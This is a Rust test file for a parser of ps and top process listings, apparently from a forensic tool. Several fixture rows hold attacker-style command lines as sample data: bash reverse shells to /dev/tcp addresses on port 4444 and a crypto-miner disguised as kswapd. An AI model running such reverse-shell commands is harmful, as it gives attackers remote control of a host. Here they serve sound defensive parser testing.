//! Table tests of the top/ps parser over the formats found in the wild.

use super::*;
use crate::compression::Compression;
use crate::evidence::{ArtifactKind, ArtifactSource};
use crate::model::DiagLevel;

/// Parse `bytes` as a top artifact written to a temp file.
pub(crate) fn parse_bytes(bytes: &[u8]) -> (ProcessCapture, Vec<Diagnostic>) {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("top.txt");
    std::fs::write(&path, bytes).unwrap();
    let a = Artifact {
        path: "top.txt".into(),
        source: ArtifactSource::File(path),
        kind: ArtifactKind::Top,
        size: bytes.len() as u64,
        sha256: None,
        compression: Compression::None,
        error: None,
        note: None,
        mtime: None,
    };
    parse(&a)
}

/// (pid, ppid, user, start, cmd, exe) of every process.
fn rows(c: &ProcessCapture) -> Vec<(u32, Option<u32>, String, String, String, String)> {
    c.processes
        .iter()
        .map(|p| {
            (
                p.pid,
                p.ppid,
                p.user.clone().unwrap_or_default(),
                p.start.clone().unwrap_or_default(),
                p.cmd.clone(),
                p.exe.clone(),
            )
        })
        .collect()
}

fn row(
    pid: u32,
    ppid: Option<u32>,
    user: &str,
    start: &str,
    cmd: &str,
    exe: &str,
) -> (u32, Option<u32>, String, String, String, String) {
    (pid, ppid, user.into(), start.into(), cmd.into(), exe.into())
}

#[test]
fn ps_ef_with_every_stime_form() {
    let text = "UID          PID    PPID  C STIME TTY          TIME CMD\n\
                root           1       0  0 2025  ?        00:00:03 /sbin/init\n\
                root       84010       1  2 Nov27 ?        01:12:09 /usr/bin/java -jar /app/app.jar\n\
                www-data   84281   84010  0 14:00 pts/0    00:00:00 bash -i\n\
                \n\
                999        84300   84281  0 14:01 ?        00:00:00 [kworker/0:0]\n";
    let (c, d) = parse_bytes(text.as_bytes());
    assert!(d.is_empty(), "{d:?}");
    assert_eq!(
        rows(&c),
        [
            row(1, Some(0), "root", "2025", "/sbin/init", "init"),
            row(84010, Some(1), "root", "Nov27", "/usr/bin/java -jar /app/app.jar", "java"),
            row(84281, Some(84010), "www-data", "14:00", "bash -i", "bash"),
            row(84300, Some(84281), "", "14:01", "[kworker/0:0]", "kworker/0:0"),
        ]
    );
    assert_eq!(c.processes[3].uid, Some(999), "numeric UID column is a uid");
    assert_eq!(c.processes[2].tty.as_deref(), Some("pts/0"));
    assert_eq!(c.processes[1].cpu_time.as_deref(), Some("01:12:09"));
    assert_eq!(c.processes[1].extra.get("C").map(String::as_str), Some("2"));
    assert_eq!(c.processes[2].locator.line, Some(4));
    assert_eq!(c.processes[3].locator.line, Some(6), "blank lines still count");
    assert!(!c.forest);
}

#[test]
fn aux_without_ppid_and_auxf_forest() {
    let aux = "USER         PID %CPU %MEM    VSZ   RSS TTY      STAT START   TIME COMMAND\n\
               root           1  0.0  0.1 167744 11432 ?        Ss   Nov27   0:03 nginx: master process nginx -g daemon off;\n\
               nobody        29 99.5  2.0 2298732 81220 ?       Sl   14:02 120:01 /tmp/.x/kswapd -o stratum+tcp://pool:3333\n";
    let (c, d) = parse_bytes(aux.as_bytes());
    assert!(d.is_empty(), "{d:?}");
    assert!(!c.has_ppid() && !c.forest);
    let p = &c.processes[1];
    assert_eq!((p.pid, p.ppid, p.cpu_percent, p.mem_percent), (29, None, Some(99.5), Some(2.0)));
    assert_eq!((p.vsz, p.rss, p.stat.as_deref()), (Some(2298732), Some(81220), Some("Sl")));
    assert_eq!(p.cmd, "/tmp/.x/kswapd -o stratum+tcp://pool:3333");
    assert_eq!(c.processes[0].exe, "nginx");

    let auxf = "USER         PID %CPU %MEM    VSZ   RSS TTY      STAT START   TIME COMMAND\n\
                root           1  0.0  0.0   4628   820 ?        Ss   14:00   0:00 /bin/sh /start.sh\n\
                root           7  0.3  9.1 3543120 370000 ?      Sl   14:00   0:41  \\_ /usr/bin/java -jar app.jar\n\
                root          90  0.0  0.0   4628   800 ?        S    14:05   0:00  |   \\_ /bin/sh -c id\n\
                root          91  0.0  0.0   4628   800 ?        S    14:05   0:00  |       \\_ bash -i\n\
                root          30  0.0  0.0   2300   700 ?        S    14:01   0:00  \\_ sleep 1000\n\
                root         100  0.0  0.0   2300   700 pts/0    Ss   14:09   0:00 bash\n";
    let (c, d) = parse_bytes(auxf.as_bytes());
    assert!(d.is_empty(), "{d:?}");
    assert!(c.forest);
    let depths: Vec<(u32, Option<u32>, &str)> =
        c.processes.iter().map(|p| (p.pid, p.forest_depth, p.cmd.as_str())).collect();
    assert_eq!(
        depths,
        [
            (1, Some(0), "/bin/sh /start.sh"),
            (7, Some(1), "/usr/bin/java -jar app.jar"),
            (90, Some(2), "/bin/sh -c id"),
            (91, Some(3), "bash -i"),
            (30, Some(1), "sleep 1000"),
            (100, Some(0), "bash"),
        ]
    );
}

#[test]
fn eo_lstart_args_and_etime_comm_args() {
    let text = "    PID    PPID USER     STARTED                  COMMAND\n\
                  84010       1 root     Fri Nov 27 14:00:00 2026 /usr/bin/java -jar app.jar\n\
                  84281   84010 root     Sat Nov  28 09:05:01 2026 bash -i >& /dev/tcp/10.0.0.5/4444 0>&1\n";
    let (c, d) = parse_bytes(text.as_bytes());
    assert!(d.is_empty(), "{d:?}");
    let p = &c.processes[1];
    assert_eq!(p.start.as_deref(), Some("Sat Nov  28 09:05:01 2026"));
    assert_eq!(p.started.map(|t| t.to_iso()).as_deref(), Some("2026-11-28T09:05:01.000000000Z"));
    assert_eq!(p.cmd, "bash -i >& /dev/tcp/10.0.0.5/4444 0>&1");
    assert_eq!(c.processes[0].started.map(|t| t.to_iso()).as_deref(), Some("2026-11-27T14:00:00.000000000Z"));

    let text = r"  PID  PPID     ELAPSED COMMAND         COMMAND
    1     0  2-03:04:05 Web Content     /usr/lib/firefox/firefox -contentproc -childID 1
   17     1       05:10 sh              sh -c sleep   10
";
    let (c, d) = parse_bytes(text.as_bytes());
    assert!(d.is_empty(), "{d:?}");
    assert_eq!(c.processes[0].elapsed, Some(2 * 86400 + 3 * 3600 + 4 * 60 + 5));
    assert_eq!(c.processes[0].comm.as_deref(), Some("Web Content"));
    assert_eq!(c.processes[0].cmd, "/usr/lib/firefox/firefox -contentproc -childID 1");
    assert_eq!(c.processes[1].elapsed, Some(310));
    assert_eq!(c.processes[1].cmd, "sh -c sleep   10");
}

#[test]
fn busybox_and_comm_last() {
    let text = "PID   USER     TIME  COMMAND\n    1 root      0:00 sh\n   12 nobody    1:02 {exe} ash /tmp/x\n   30 root      0:00 [kthreadd]\n";
    let (c, d) = parse_bytes(text.as_bytes());
    assert!(d.is_empty(), "{d:?}");
    assert_eq!(
        rows(&c),
        [
            row(1, None, "root", "", "sh", "sh"),
            row(12, None, "nobody", "", "{exe} ash /tmp/x", "{exe}"),
            row(30, None, "root", "", "[kthreadd]", "kthreadd"),
        ]
    );
    // Old BusyBox: `Uid`, `VmSize` (empty for kernel threads), `Stat`, `Command`.
    let text = "  PID  Uid     VmSize Stat Command\n    1 root       1556 S   init\n    2 root            SW< [kthreadd]\n  120 www-data   2040 R   /tmp/x\n";
    let (c, d) = parse_bytes(text.as_bytes());
    assert!(d.is_empty(), "{d:?}");
    let got: Vec<(u32, Option<u64>, &str, &str)> =
        c.processes.iter().map(|p| (p.pid, p.vsz, p.stat.as_deref().unwrap_or(""), p.cmd.as_str())).collect();
    assert_eq!(
        got,
        [(1, Some(1556), "S", "init"), (2, None, "SW<", "[kthreadd]"), (120, Some(2040), "R", "/tmp/x")]
    );

    let (c, _) = parse_bytes(b"  PID COMMAND\n  10 Web Content\n");
    assert_eq!((c.processes[0].cmd.as_str(), c.processes[0].comm.as_deref()), ("Web Content", None));
}

#[test]
fn api_json_form_including_dockers_split_lstart() {
    let json = r#"{"Titles":["UID","PID","PPID","C","STIME","TTY","TIME","CMD"],
"Processes":[["root","84010","1","0","14:00","?","00:00:05","java -jar app.jar"],
 ["root","84281","84010","0","14:02","?","00:00:00","\\_ bash -c  echo \"x\""]]}"#;
    let (c, d) = parse_bytes(json.as_bytes());
    assert!(d.is_empty(), "{d:?}");
    assert_eq!(c.format, CaptureFormat::ApiJson);
    assert_eq!(
        rows(&c),
        [
            row(84010, Some(1), "root", "14:00", "java -jar app.jar", "java"),
            row(84281, Some(84010), "root", "14:02", "bash -c  echo \"x\"", "bash"),
        ]
    );
    assert_eq!(c.processes[1].locator.line, Some(3));
    assert_eq!(c.processes[0].locator.offset, Some(json.find("[\"root\",\"84010").unwrap() as u64));

    // `docker top c -eo pid,ppid,lstart,args`: the daemon splits on whitespace.
    let json = r#"{"Titles":["PID","PPID","STARTED","COMMAND"],"Processes":[["7","1","Fri","Nov 27 14:00:00 2026 sleep 5"]]}"#;
    let (c, d) = parse_bytes(json.as_bytes());
    assert!(d.is_empty(), "{d:?}");
    let p = &c.processes[0];
    assert_eq!((p.start.as_deref(), p.cmd.as_str()), (Some("Fri Nov 27 14:00:00 2026"), "sleep 5"));
    assert!(p.started.is_some());

    // Windows containers: titles with spaces, a name instead of a command line.
    let json = r#"{"Titles":["Name","PID","CPU","Private Working Set"],"Processes":[["w3wp.exe","1044","00:00:02.156","35.5MB"]]}"#;
    let (c, d) = parse_bytes(json.as_bytes());
    assert!(d.is_empty(), "{d:?}");
    let p = &c.processes[0];
    assert_eq!((p.pid, p.cmd.as_str(), p.exe.as_str()), (1044, "w3wp.exe", "w3wp.exe"));
    assert_eq!(p.extra.get("Private Working Set").map(String::as_str), Some("35.5MB"));

    let (_, d) = parse_bytes(br#"{"Titles":["PID","CMD"],"Processes":[["x","sh"]],"#);
    assert_eq!(d.len(), 1);
    assert_eq!(d[0].level, DiagLevel::Error);
    let (c, d) = parse_bytes(br#"{"Titles":["PID","CMD"],"Processes":[["x","sh"],["5"],["6","ok"]]}"#);
    assert_eq!(d.len(), 2, "{d:?}");
    assert_eq!(c.processes.len(), 1);
}

#[test]
fn command_with_many_spaces_and_quotes_is_byte_exact() {
    let cmd = r#"sh -c 'echo "a  b"   > /tmp/x; bash -i >& /dev/tcp/1.2.3.4/4444 0>&1'"#;
    for header in ["UID PID PPID C STIME TTY TIME CMD", "UID    PID   PPID  C STIME TTY   TIME     CMD"] {
        let text = format!("{header}\nroot 5 1 0 14:00 ? 00:00:00 {cmd}\n");
        let (c, d) = parse_bytes(text.as_bytes());
        assert!(d.is_empty(), "{d:?}");
        assert_eq!(c.processes[0].cmd, cmd);
        assert_eq!(c.processes[0].exe, "sh");
    }
}

#[test]
fn renamed_headers_and_docker_top_alignment() {
    let text = "PROCESSID PARENT USERNAME CMDLINE\n42 1 app /srv/app --port 80\n";
    let (c, d) = parse_bytes(text.as_bytes());
    assert!(d.is_empty(), "{d:?}");
    assert_eq!(rows(&c), [row(42, Some(1), "app", "", "/srv/app --port 80", "app")]);

    // docker top's tabwriter: columns padded to 20, an empty TTY cell.
    let text = "UID                 PID                 PPID                C                   STIME               TTY                 TIME                CMD\n\
                root                2001                1990                0                   14:00                                   00:00:00            nginx: worker process\n";
    let (c, d) = parse_bytes(text.as_bytes());
    assert!(d.is_empty(), "{d:?}");
    let p = &c.processes[0];
    assert_eq!(
        (p.pid, p.ppid, p.tty.as_deref(), p.cmd.as_str()),
        (2001, Some(1990), None, "nginx: worker process")
    );
    assert_eq!(p.cpu_time.as_deref(), Some("00:00:00"));
}

#[test]
fn garbled_rows_give_diagnostics_never_panics() {
    let text = b"UID PID PPID C STIME TTY TIME CMD\nroot 1 0 0 14:00 ? 00:00:00 init\nroot\n$ docker top web\nroot x 1 0 14:00 ? 00:00:00 sh\nroot 2 1 0 14";
    let (c, d) = parse_bytes(text);
    assert_eq!(c.processes.len(), 1, "{:?}", c.processes);
    let lines: Vec<Option<u64>> = d.iter().map(|d| d.locator.line).collect();
    assert_eq!(lines, [Some(3), Some(4), Some(5), Some(6)]);
    assert!(d.iter().all(|d| d.level == DiagLevel::Warning));

    let (c, d) = parse_bytes(b"USER COMMAND\nroot sh\n");
    assert!(c.processes.is_empty());
    assert_eq!(d[0].level, DiagLevel::Error);

    // A second capture appended to the first.
    let text = b"PID CMD\n1 sh\nUID PID PPID CMD\nroot 2 1 bash\n";
    let (c, d) = parse_bytes(text);
    assert_eq!(c.processes.iter().map(|p| (p.pid, p.ppid)).collect::<Vec<_>>(), [(1, None), (2, Some(1))]);
    assert_eq!(d.len(), 1);
}

#[test]
fn non_utf8_bytes_in_a_command() {
    let text = b"PID PPID CMD\n7 1 /tmp/\xff\xfeminer -o x\n";
    let (c, d) = parse_bytes(text);
    assert!(d.is_empty(), "{d:?}");
    assert_eq!(c.processes[0].cmd, "/tmp/\\xff\\xfeminer -o x");
    assert_eq!(c.processes[0].exe, "\\xff\\xfeminer");
}

#[test]
fn unix_forest_indentation_without_ppid() {
    let text = r"  PID  PGID   SID TTY          TIME CMD
    1     1     1 ?        00:00:00 tini
    7     7     1 ?        00:00:09   java
   40     7     1 ?        00:00:00     sh
   41     7     1 ?        00:00:00   sleep
";
    let (c, _) = parse_bytes(text.as_bytes());
    assert!(c.forest);
    assert_eq!(c.processes.iter().map(|p| p.forest_depth.unwrap()).collect::<Vec<_>>(), [0, 1, 2, 1]);
    assert_eq!(c.processes[2].cmd, "sh");
}

#[test]
fn long_formats_and_many_time_columns() {
    let t = [
        "S   UID   PID  PPID  C PRI  NI   RSS    SZ WCHAN  TTY          TIME CMD\n\
         S     0  1550  1505  2  80   0 48588 48687 futex_ ?        00:00:00 cargo build\n",
        "UID        PID  PPID  C    SZ   RSS PSR STIME TTY          TIME CMD\n\
         root      1550  1505  2 48687 48588   0 11:08 ?        00:00:00 cargo build\n",
        "F S UID        PID  PPID  C PRI  NI ADDR SZ WCHAN  STIME TTY          TIME CMD\n\
         0 S root      1550  1505  2  80   0 - 48687 futex_ 11:08 ?        00:00:00 cargo build\n",
    ];
    for text in t {
        let (c, d) = parse_bytes(text.as_bytes());
        assert!(d.is_empty(), "{d:?}");
        let p = &c.processes[0];
        assert_eq!(
            (p.pid, p.ppid, p.cmd.as_str(), p.cpu_time.as_deref()),
            (1550, Some(1505), "cargo build", Some("00:00:00"))
        );
    }
    let text = r"  PID  PPID   UID USER     ELAPSED     TIME  STARTED  START START                  STARTED CGROUP                      COMMAND
 1550  1505     0 root           3        0 11:08:37  11:08 11:08 Sun Nov 29 11:08:37 2026 4:memory:/process_api/ad6f3 cargo build
";
    let (c, d) = parse_bytes(text.as_bytes());
    assert!(d.is_empty(), "{d:?}");
    let p = &c.processes[0];
    assert_eq!(p.start.as_deref(), Some("Sun Nov 29 11:08:37 2026"));
    assert_eq!(p.started.map(|t| t.to_iso()).as_deref(), Some("2026-11-29T11:08:37.000000000Z"));
    assert_eq!((p.uid, p.elapsed, p.cmd.as_str()), (Some(0), Some(3), "cargo build"));
    let extra: Vec<(&str, &str)> = p.extra.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
    assert_eq!(
        extra,
        [
            ("CGROUP", "4:memory:/process_api/ad6f3"),
            ("START", "11:08"),
            ("START#2", "11:08"),
            ("STARTED", "11:08:37")
        ]
    );
}
